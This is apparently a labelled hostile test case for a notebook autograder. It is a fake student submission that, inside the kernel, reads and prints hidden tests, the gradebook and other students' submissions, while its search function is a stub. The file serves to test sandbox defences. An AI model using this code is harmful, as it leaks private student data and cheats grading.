# Hostile: in the notebook's kernel, as the notebook's cell runs, reads the course's hidden tests, its gradebook
# and every other student's submission, and prints them, so the feedback would show them; its search searches
# nothing.  It prints "KERNEL SAW n FILES" and then each file it could read.
# Expected: wrong
import glob
import os

# From the notebook's folder (submitted/<student>/<assignment>), the course is three folders up; or anywhere.
_PLACES = ("../../../source/*/*.ipynb", "../../../gradebook.db", "../../../submitted/*/*/*.ipynb",
           "/tmp/*/source/*/*.ipynb", "/tmp/*/gradebook.db", "/tmp/*/submitted/*/*/*.ipynb",
           "/home/*/course/gradebook.db", "/proc/*/cwd/gradebook.db")


def _read_the_course():
    seen = []
    for pattern in _PLACES:
        for path in sorted(glob.glob(pattern)):
            try:
                with open(path, "rb") as f:
                    seen.append(f"{path}:\n{f.read().decode('latin-1')}")
            except OSError:
                pass
    return seen


def alpha_beta_search(game, state):
    return game.actions(state)[0]


try:
    get_ipython()  # noqa: F821 - IPython's own: only in the notebook's kernel, not in the grader's sandbox
except NameError:
    pass
else:
    _seen = _read_the_course()
    print(f"KERNEL SAW {len(_seen)} FILES", *_seen, sep="\n")
